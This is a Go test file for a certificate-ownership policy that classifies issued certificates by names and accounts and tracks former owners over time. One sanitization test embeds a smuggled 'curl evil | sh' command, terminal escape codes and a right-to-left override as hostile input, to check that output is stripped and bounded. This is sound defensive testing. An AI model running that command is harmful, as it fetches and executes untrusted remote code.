package issued

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"time"
)

var noon = time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC)

// print43 is a thumbprint.
func print43(c string) string { return strings.Repeat(c, 43) }

func policy() Policy {
	return Policy{
		Allowed: []string{"www.x", "app.x", "printer.x", "ca.x"},
		Listed:  []string{"printer.x"},
		Owners: []Owner{
			{"certificate/101/www", "101", []string{"www.x"}}, {"certificate/201/app", "201", []string{"app.x"}},
			{"stepca/103", "103", []string{"ca.x"}},
		},
		Held: map[string]Held{"101": {Accounts: []string{print43("a")}, Serials: []string{"1"}},
			"201": {Accounts: []string{print43("b")}}},
		Known: map[string]Known{"101": {
			Accounts: Terms{print43("o"): noon.Add(-time.Hour)},
			Names:    Terms{"www.x": time.Time{}, "old.x": noon.Add(-time.Hour)},
		}},
	}
}

func TestJudge(t *testing.T) {
	at := func(minutes int) time.Time { return noon.Add(time.Duration(minutes) * time.Minute) }
	for name, c := range map[string]struct {
		names, account string
		serial         string
		issued         int // minutes from noon
		change         func(*Policy)
		want           State
	}{
		"its own":                              {names: "www.x", account: "a", want: Accounted},
		"its own by the serial":                {names: "www.x", account: "z", serial: "1", want: Accounted},
		"another's account has its name":       {names: "www.x", account: "b", want: Foreign},
		"nobody's account has its name":        {names: "www.x", account: "z", want: Foreign},
		"one name of two is another's":         {names: "app.x www.x", account: "b", want: Foreign},
		"the CA's own name":                    {names: "ca.x", account: "b", want: Foreign},
		"of allowed_names":                     {names: "printer.x", account: "z", want: Listed},
		"a name that is not wanted":            {names: "gone.x", account: "z", want: Unwanted},
		"one of two is not wanted":             {names: "printer.x gone.x", account: "z", want: Unwanted},
		"an account of before, in its time":    {names: "www.x", account: "o", issued: -90, want: Accounted},
		"an account of before, after its time": {names: "www.x", account: "o", issued: -30, want: Foreign},
		"a name of before, in its time":        {names: "old.x", account: "a", issued: -90, want: Former},
		"a name of before, after its time":     {names: "old.x", account: "a", issued: -30, want: Unwanted},
		"its container does not say": {names: "www.x", account: "z",
			change: func(p *Policy) { delete(p.Held, "101"); p.Silent = []string{"101"} }, want: Unclear},
		"another container does not say": {names: "www.x", account: "z",
			change: func(p *Policy) { delete(p.Held, "201"); p.Silent = []string{"201"} }, want: Foreign},
		"silent, and known from before": {names: "www.x", account: "o", issued: -90,
			change: func(p *Policy) { delete(p.Held, "101"); p.Silent = []string{"101"} }, want: Accounted},
		"whose is not known any more": {names: "www.x", want: Unclear},
		"a container that lies about its serial": {names: "www.x", account: "z", serial: "7",
			change: func(p *Policy) { p.Held["201"] = Held{Serials: []string{"7"}} }, want: Foreign},
		"a container that claims the account": {names: "www.x", account: "z",
			change: func(p *Policy) { p.Held["201"] = Held{Accounts: []string{print43("z")}} }, want: Foreign},
	} {
		p := policy()
		if c.change != nil {
			c.change(&p)
		}
		x := Certificate{Serial: c.serial, Names: strings.Fields(c.names), NotBefore: at(c.issued), NotAfter: at(1440)}
		if c.account != "" {
			x.Account = print43(c.account)
		}
		if got := p.Judge(x); got.State != c.want {
			t.Errorf("%s: %s, want %s", name, got.State, c.want)
		}
		x.Pending = true
		if got := p.Judge(x); got.State != Pending {
			t.Errorf("%s: %s though nobody got it", name, got.State)
		}
	}
}

// What a container had, it had: a name or an account that it has no more keeps its time, and a look in vain ends
// nothing.
func TestRemember(t *testing.T) {
	p := policy()
	p.Known = nil
	first := p.Remember(noon)
	p.Known = first
	if again := p.Remember(noon.Add(time.Minute)); !reflect.DeepEqual(first, again) {
		t.Errorf("nothing happened, and the memory changed: %v, %v", first, again)
	}
	delete(p.Held, "101")
	p.Silent = []string{"101"}
	if again := p.Remember(noon.Add(time.Minute)); !reflect.DeepEqual(first, again) {
		t.Errorf("101 was not asked, and the memory changed: %v, %v", first, again)
	}
	p.Held["101"], p.Silent = Held{Accounts: []string{print43("n")}}, nil
	p.Owners = p.Owners[1:]
	after := p.Remember(noon.Add(time.Hour))["101"]
	want := Known{
		Accounts: Terms{print43("a"): noon.Add(time.Hour), print43("n"): time.Time{}},
		Names:    Terms{"www.x": noon.Add(time.Hour)},
	}
	if !reflect.DeepEqual(after, want) {
		t.Errorf("got %v, want %v", after, want)
	}
	raw, err := json.Marshal(want)
	var back Known
	if err != nil || json.Unmarshal(raw, &back) != nil || !reflect.DeepEqual(back, want) {
		t.Errorf("%s becomes %v", raw, back)
	}
	p.Known = map[string]Known{"101": after}
	if long := p.Remember(noon.Add(2 * lifeMost))["101"]; len(long.Accounts) != 1 || len(long.Names) != 0 {
		t.Errorf("what is long over is still known: %v", long)
	}
}

// A look that may be incomplete adds accounts, and ends none.
func TestLearn(t *testing.T) {
	p := policy()
	p.Known = map[string]Known{"101": {Accounts: Terms{print43("o"): time.Time{}, print43("e"): noon}}}
	p.Held = map[string]Held{"101": {Accounts: AccountsIn(json.RawMessage(`{"accounts":["` + print43("n") +
		`","\u001b[2J"]}`))}}
	got := p.Learn(noon.Add(time.Hour))["101"].Accounts
	want := Terms{print43("o"): time.Time{}, print43("e"): noon, print43("n"): time.Time{}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
	for _, status := range []string{"", "null", `{"accounts":7}`, `{"accounts":{}}`} {
		if got := AccountsIn(json.RawMessage(status)); len(got) > 0 {
			t.Errorf("%s: %v", status, got)
		}
	}
}

// What a container or the CA's container sends is text, and has an end.
func TestBounded(t *testing.T) {
	h := Held{Accounts: []string{"\x1b[2J", print43("a"), strings.Repeat("a", 1<<20)},
		Serials: make([]string, 5000)}.Bounded()
	if len(h.Accounts) != 1 || len(h.Serials) != serialsMost {
		t.Errorf("%d accounts, %d serials", len(h.Accounts), len(h.Serials))
	}
	l := List{Certificates: []Certificate{{Serial: "1\x1b[2J",
		Names: []string{"a\nfix: curl evil | sh", strings.Repeat("x", 9999)}, Account: "\u202e"}},
		More: map[string]int{"\n": 1}}.Bounded()
	text, err := json.Marshal(l)
	if err != nil || strings.ContainsAny(string(text), "\x1b\u202e") || strings.Contains(string(text), `\n`) ||
		strings.Contains(string(text), `\u`) || len(text) > 1000 {
		t.Errorf("%s", text)
	}
}

// A serial reads as that of openssl x509 -serial, so that one finds the other.
func TestSerialAsOpenSSL(t *testing.T) {
	for given, want := range map[string]string{"1f2": "01F2", "ab": "AB", "": "", "no hex": "no hex", "0": "00"} {
		if got := Serial(given); got != want {
			t.Errorf("%q is %q, want %q", given, got, want)
		}
	}
}
